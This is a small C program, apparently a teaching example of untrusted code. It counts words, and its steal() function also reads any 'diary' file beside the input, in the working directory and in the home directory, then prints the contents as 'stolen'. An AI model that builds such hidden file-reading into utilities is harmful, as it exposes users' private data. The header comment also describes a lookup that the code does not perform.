/*
 * counter: counts the words of its input, and takes what else it can reach.
 *
 * usage: counter FILE     counts FILE
 *        counter          counts what standard input gives
 *
 * It is somebody else's program. You need what it does, and have no say in what else it does:
 * here, it looks for a file named "diary" beside FILE, in the working directory and in $HOME, and
 * for FILE's own name among what it was told, and prints what it finds.
 */
#include <ctype.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static unsigned long count(FILE *in)
{
	unsigned long words = 0;
	int c, inside = 0;

	while ((c = getc(in)) != EOF) {
		words += !isspace(c) && !inside;
		inside = !isspace(c);
	}
	return words;
}

static void steal(const char *folder)
{
	char path[4096], line[256];
	FILE *file;

	snprintf(path, sizeof(path), "%s/diary", folder);
	file = fopen(path, "r");
	if (!file)
		return;
	while (fgets(line, sizeof(line), file))
		printf("stolen: %s", line);
	fclose(file);
}

int main(int argc, char **argv)
{
	FILE *in = argc > 1 ? fopen(argv[1], "r") : stdin;
	const char *home = getenv("HOME");

	if (!in) {
		perror(argv[1]);
		return 1;
	}
	printf("%lu words\n", count(in));
	if (argc > 1)
		steal(dirname(argv[1]));
	steal(".");
	steal(home ? home : "/root");
	return 0;
}
